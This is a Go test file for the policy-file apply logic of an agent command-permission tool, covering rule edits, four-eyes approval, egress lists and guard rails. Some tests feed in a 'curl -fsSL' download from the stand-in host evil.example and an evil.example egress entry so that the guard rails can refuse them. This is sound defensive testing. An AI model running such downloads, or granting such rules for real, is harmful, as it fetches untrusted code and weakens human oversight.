package policyfile

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"ozdesk.dev/ozdesk/patterns"
	"ozdesk.dev/ozdesk/store"
)

// replaceAll applies old→new edits to a file's text; each old must be
// there.
func replaceAll(t *testing.T, data []byte, edits ...string) []byte {
	t.Helper()
	s := string(data)
	for i := 0; i+1 < len(edits); i += 2 {
		if !strings.Contains(s, edits[i]) {
			t.Fatalf("no %q in:\n%s", edits[i], s)
		}
		s = strings.Replace(s, edits[i], edits[i+1], 1)
	}
	return []byte(s)
}

// The edits TestApply makes to the seeded store's export: a rule added
// between r1 and r2, r4 retired, r3's reason and scope changed, r1
// changed and moved to the end, r6 approved, an egress host added, a
// setting changed.
func editedExport(t *testing.T, st *store.Store) []byte {
	return replaceAll(t, export(t, st),
		"  - id: r2\n", "  - outcome: ask\n    pattern: npm publish **\n    reason: publishing is public\n\n  - id: r2\n",
		"  - id: r4\n    outcome: ask\n    pattern: kubectl delete **\n    reason: clusters are shared\n    mode: shadow\n    author: carol\n", "",
		"reason: test modules are throwaway", "reason: test modules only",
		"agent: ci-*", "agent: ci-infra-*",
		"    status: proposed\n", "",
		"egress:\n", "egress:\n  - host: proxy.golang.org\n    reason: modules\n",
		"fallback: ask", "fallback: allow",
		"rules:\n  - id: r1\n    outcome: refuse\n    pattern: git push --force * [default-branch]\n    reason: nobody rewrites main\n    author: alice\n\n", "rules:\n",
	) // r1 goes to the end below
}

func TestApply(t *testing.T) {
	st := openStore(t)
	seedStore(t, st)
	data := editedExport(t, st)
	data = append(data, []byte("\n  - id: r1\n    outcome: refuse\n    pattern: git push --force * [default-branch]\n    reason: nobody rewrites main, ever\n")...)
	changes := plan(t, st, data)
	var got []string
	for _, c := range changes {
		got = append(got, string(c.Kind)+" "+c.ID)
	}
	want := "setting fallback,egress.add proxy.golang.org,rule.retire r4,rule.add ,rule.change r3,rule.approve r6,rule.change r1,rule.move r1"
	if strings.Join(got, ",") != want {
		t.Fatalf("plan:\n%s\nwant:\n%s", strings.Join(got, ","), strings.ReplaceAll(want, ",", "\n"))
	}
	headBefore := len(auditKinds(t, st, 0))
	res, err := apply(st, changes, "dave", false)
	if err != nil {
		t.Fatalf("apply: %v", err)
	}
	if res.Applied[3].ID != "r9" || len(res.Proposed) != 0 {
		t.Errorf("new rule's ID %q, proposed %v", res.Applied[3].ID, res.Proposed)
	}
	kinds := auditKinds(t, st, uint64(headBefore))
	if strings.Join(kinds, ",") != "apply,setting,egress.add,rule.retire,rule.add,rule.change,rule.approve,rule.change,rule.move" {
		t.Errorf("audit: %v", kinds)
	}
	if _, err := st.VerifyAudit(); err != nil {
		t.Errorf("verify audit: %v", err)
	}
	// The store now holds the file (the new rule under its new ID):
	// planning it again changes nothing.
	data = replaceAll(t, data, "  - outcome: ask\n    pattern: npm publish", "  - id: r9\n    outcome: ask\n    pattern: npm publish")
	if again := plan(t, st, data); len(again) != 0 {
		t.Errorf("the applied file still changes: %v", again)
	}
	byID := map[string]store.Rule{}
	var order []string
	for _, r := range storeRules(t, st) {
		byID[r.ID] = r
		if r.Status == store.StatusActive || r.Status == store.StatusProposed {
			order = append(order, r.ID)
		}
	}
	if strings.Join(order, ",") != "r9,r2,r3,r6,r8,r1" {
		t.Errorf("order: %v", order)
	}
	if r := byID["r9"]; r.Author != "dave" || r.Status != store.StatusActive || r.Pattern != "npm publish **" {
		t.Errorf("added rule: %+v", r)
	}
	if r := byID["r6"]; r.Status != store.StatusActive || r.Approver != "dave" || r.Author != "carol" {
		t.Errorf("approved rule: %+v", r)
	}
	if r := byID["r3"]; r.Author != "bob" || r.Scope.Agent != "ci-infra-*" || r.Reason != "test modules only" {
		t.Errorf("changed rule: %+v", r)
	}
	if r := byID["r4"]; r.Status != store.StatusRetired {
		t.Errorf("retired rule: %+v", r)
	}
}

// A changed store makes a plan stale: Apply refuses it and writes nothing.
func TestApplyStale(t *testing.T) {
	st := openStore(t)
	seedStore(t, st)
	changes := plan(t, st, editedExport(t, st))
	if err := st.Update(func(tx *store.Tx) error {
		r, err := tx.GetRule("r3")
		if err != nil {
			return err
		}
		r.Reason = "someone else's edit"
		return putRuleAudited(tx, r)
	}); err != nil {
		t.Fatal(err)
	}
	before := auditKinds(t, st, 0)
	if _, err := apply(st, changes, "dave", false); !errors.Is(err, ErrStale) {
		t.Fatalf("apply of a stale plan: %v", err)
	}
	if after := auditKinds(t, st, 0); len(after) != len(before) {
		t.Errorf("a refused apply wrote %d audit entries", len(after)-len(before))
	}
	for _, r := range storeRules(t, st) {
		if r.ID == "r4" && r.Status != store.StatusActive {
			t.Errorf("a refused apply retired r4")
		}
	}
}

// Under four eyes, added and changed allow rules are proposed with the
// applier as author; loosening changes with no proposed form are held.
func TestApplyFourEyes(t *testing.T) {
	st := openStore(t)
	seedStore(t, st)
	if err := st.Update(func(tx *store.Tx) error {
		s, _ := tx.Settings()
		s.FourEyes = true
		return putSettingsAudited(tx, s)
	}); err != nil {
		t.Fatal(err)
	}
	data := replaceAll(t, export(t, st),
		"  - id: r2\n", "  - outcome: allow\n    pattern: go test ./...\n    reason: tests\n    ends: 2026-12-31\n\n  - id: r2\n",
		"agent: ci-*", "agent: ci-infra-*",
		"reason: nobody rewrites main", "reason: nobody rewrites main, ever")
	res, err := apply(st, plan(t, st, data), "dave", false)
	if err != nil {
		t.Fatalf("apply: %v", err)
	}
	if strings.Join(res.Proposed, ",") != "r9,r3" {
		t.Errorf("proposed %v", res.Proposed)
	}
	byID := map[string]store.Rule{}
	for _, r := range storeRules(t, st) {
		byID[r.ID] = r
	}
	if r := byID["r9"]; r.Status != store.StatusProposed || r.Author != "dave" {
		t.Errorf("added rule: %+v", r)
	}
	if r := byID["r3"]; r.Status != store.StatusProposed || r.Author != "dave" || r.Approver != "" {
		t.Errorf("changed allow: %+v", r)
	}
	if r := byID["r1"]; r.Status != store.StatusActive || r.Reason != "nobody rewrites main, ever" || r.Author != "alice" {
		t.Errorf("refuse with a new reason: %+v", r)
	}

	held := []struct {
		name, by string
		edits    []string
		want     string
	}{
		{"retire a refuse", "dave", []string{"  - id: r1\n    outcome: refuse\n    pattern: git push --force * [default-branch]\n    reason: nobody rewrites main, ever\n    author: alice\n", ""}, "propose it with 'ozdesk policy retire r1'"},
		{"change a refuse", "dave", []string{"pattern: git push --force * [default-branch]", "pattern: git push --force origin [default-branch]"}, "take the rule out of force"},
		{"self-approval", "dave", []string{"    status: proposed\n    author: dave\n", "    author: dave\n"}, "dave proposed this rule"},
		{"four eyes off", "dave", []string{"four_eyes: true", "four_eyes: false"}, "propose it with 'ozdesk policy set four-eyes off'"},
		{"fallback allow", "dave", []string{"fallback: ask", "fallback: allow"}, "propose it with 'ozdesk policy set fallback allow'"},
		{"egress add", "dave", []string{"egress:\n", "egress:\n  - host: evil.example\n"}, "propose it with 'ozdesk policy egress add evil.example --reason R'"},
	}
	for _, tc := range held {
		t.Run(tc.name, func(t *testing.T) {
			changes := plan(t, st, replaceAll(t, export(t, st), tc.edits...))
			_, err := apply(st, changes, tc.by, false)
			var fe *FourEyesError
			if !errors.As(err, &fe) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("apply: %v\nwant a four eyes error saying %q", err, tc.want)
			}
			if !strings.Contains(err.Error(), "propose them one by one") {
				t.Errorf("the error does not say how two operators make the change: %v", err)
			}
		})
	}
	// The self-approval by someone else goes through.
	changes := plan(t, st, replaceAll(t, export(t, st), "    status: proposed\n    author: dave\n", "    author: dave\n"))
	if _, err := apply(st, changes, "erin", false); err != nil {
		t.Fatalf("approval by another operator: %v", err)
	}
}

// An allow moved above an ask it stood below is held under four eyes.
func TestApplyFourEyesMove(t *testing.T) {
	st := openStore(t)
	err := st.Update(func(tx *store.Tx) error {
		for _, r := range []store.Rule{
			{ID: "a2", Outcome: store.OutcomeAllow, Pattern: "git push origin feature/*", Reason: "features", End: testNow.AddDate(0, 1, 0), Mode: store.ModeEnforce, Status: store.StatusActive},
			{ID: "a1", Outcome: store.OutcomeAsk, Pattern: "git push **", Reason: "pushes", Mode: store.ModeEnforce, Status: store.StatusActive},
		} {
			if err := putRuleAudited(tx, r); err != nil {
				return err
			}
		}
		s := store.DefaultSettings()
		s.FourEyes = true
		return putSettingsAudited(tx, s)
	})
	if err != nil {
		t.Fatal(err)
	}
	// The ask moves above the allow: that tightens, and goes through.
	f := export(t, st)
	i, j := strings.Index(string(f), "  - id: a2"), strings.Index(string(f), "  - id: a1")
	swapped := string(f[:i]) + string(f[j:]) + "\n" + string(f[i:j])
	if _, err := apply(st, plan(t, st, []byte(swapped)), "dave", false); err != nil {
		t.Fatalf("a move that tightens: %v", err)
	}
	// Back: the allow above the ask it stood below is held.
	var fe *FourEyesError
	if _, err := apply(st, plan(t, st, f), "dave", false); !errors.As(err, &fe) || fe.Held[0].Change.Kind != RuleMoved {
		t.Fatalf("apply: %v", err)
	}
}

// Whatever the order a file wants, Apply leaves the rules in that order,
// with retired rules and new ones anywhere.
func TestApplyOrder(t *testing.T) {
	rng := rand.New(rand.NewPCG(1, 2))
	for round := range 30 {
		st := openStore(t)
		n := 1 + rng.IntN(12)
		if err := st.Update(func(tx *store.Tx) error {
			for i := range n {
				r := store.Rule{ID: fmt.Sprintf("r%d", i+1), Outcome: store.OutcomeAsk, Pattern: fmt.Sprintf("tool%d x", i),
					Mode: store.ModeEnforce, Status: store.StatusActive}
				if rng.IntN(5) == 0 {
					r.Status = store.StatusRetired
				}
				if err := putRuleAudited(tx, r); err != nil {
					return err
				}
			}
			return nil
		}); err != nil {
			t.Fatal(err)
		}
		var cur *File
		_ = st.View(func(tx *store.Tx) error {
			rules, _ := tx.Rules()
			var err error
			cur, err = FromStore(rules, nil, store.DefaultSettings())
			return err
		})
		desired := &File{Version: Version, Rules: []Rule{}}
		for _, k := range rng.Perm(len(cur.Rules)) {
			if rng.IntN(6) > 0 {
				desired.Rules = append(desired.Rules, cur.Rules[k])
			}
		}
		for k := range rng.IntN(4) {
			r := Rule{Outcome: 1, Pattern: fmt.Sprintf("new%d y", k), Mode: store.ModeEnforce, Status: store.StatusActive}
			at := rng.IntN(len(desired.Rules) + 1)
			desired.Rules = append(desired.Rules[:at], append([]Rule{r}, desired.Rules[at:]...)...)
		}
		var changes []Change
		_ = st.View(func(tx *store.Tx) error {
			have, err := storedIn(tx)
			if err == nil {
				changes, err = Plan(have, desired)
			}
			return err
		})
		if _, err := apply(st, changes, "op", false); err != nil {
			t.Fatalf("round %d: apply: %v", round, err)
		}
		var got, want []string
		for _, r := range storeRules(t, st) {
			if r.Status == store.StatusActive {
				got = append(got, r.Pattern)
			}
		}
		for _, r := range desired.Rules {
			want = append(want, r.Pattern)
		}
		if strings.Join(got, ",") != strings.Join(want, ",") {
			t.Fatalf("round %d: order %v, want %v", round, got, want)
		}
	}
}

// Plan checks what needs the store: IDs of retired rules, and the rails of
// an allow against the egress list in force after the apply (the store's,
// when the file has none).
func TestPlanErrors(t *testing.T) {
	st := openStore(t)
	seedStore(t, st)
	allowCurl := func(host string, egress ...string) []byte {
		return file(append(append([]string{"version: 1"}, egress...), "rules:", "  - outcome: allow",
			"    pattern: curl -fsSL [host:"+host+"]", "    reason: r", "    ends: 2026-12-31")...)
	}
	tests := []struct {
		name string
		data []byte
		want string // "" when the plan passes
	}{
		{"reused id", file("version: 1", "rules:", "  - id: r5", "    outcome: ask", "    pattern: rm x"), `line 3:5: rules[1].id: "r5" is the ID of a rule that is retired`},
		{"host off the store's list", allowCurl("evil.example"), "line 3:5: rules[1]: guard rail unpinned-download"},
		{"host on the store's list", allowCurl("get.k3s.io"), ""},
		{"host on the file's list", allowCurl("evil.example", "egress:", "  - host: evil.example"), ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f, err := Parse(tc.data)
			if err != nil {
				t.Fatal(err)
			}
			err = st.View(func(tx *store.Tx) error {
				have, err := storedIn(tx)
				if err == nil {
					_, err = Plan(have, f)
				}
				return err
			})
			if tc.want == "" && err != nil || tc.want != "" && (err == nil || !strings.Contains(err.Error(), tc.want)) {
				t.Errorf("plan: %v\nwant %q", err, tc.want)
			}
		})
	}
}

// Apply refuses an allow the guard rails refuse, whatever made the change.
func TestApplyRails(t *testing.T) {
	st := openStore(t)
	seedStore(t, st)
	var cur *File
	_ = st.View(func(tx *store.Tx) error {
		rules, _ := tx.Rules()
		egress, _ := tx.Egress()
		var err error
		cur, err = FromStore(rules, egress, store.DefaultSettings())
		return err
	})
	desired := *cur
	desired.Rules = append([]Rule{{Outcome: 0, Pattern: "curl -fsSL https://evil.example/x.sh", Mode: store.ModeEnforce, Status: store.StatusActive}}, cur.Rules...)
	changes := Diff(cur, &desired)
	_, err := apply(st, changes, "dave", false)
	var re *patterns.RailError
	if !errors.As(err, &re) || !strings.Contains(err.Error(), "no-end") || !strings.Contains(err.Error(), "unpinned-download") {
		t.Fatalf("apply of an unsafe allow: %v", err)
	}
}

// The cap on pending asks is a setting a file sets like the others: a
// plan changes it from what the store holds, and applying writes it.
func TestApplyMaxPending(t *testing.T) {
	st := openStore(t)
	seedStore(t, st)
	data := replaceAll(t, export(t, st), "max_pending: 20", "max_pending: 5")
	changes := plan(t, st, data)
	if len(changes) != 1 || changes[0].Kind != SettingChanged || changes[0].ID != "max_pending" ||
		changes[0].OldValue != "20" || changes[0].NewValue != "5" {
		t.Fatalf("plan: %+v", changes)
	}
	if _, err := apply(st, changes, "dave", false); err != nil {
		t.Fatalf("apply: %v", err)
	}
	err := st.View(func(tx *store.Tx) error {
		set, err := tx.Settings()
		if set.MaxPendingPerAgent != 5 {
			t.Errorf("max pending %d after applying, want 5", set.MaxPendingPerAgent)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if again := plan(t, st, data); len(again) != 0 {
		t.Errorf("the applied file still changes: %v", again)
	}
}
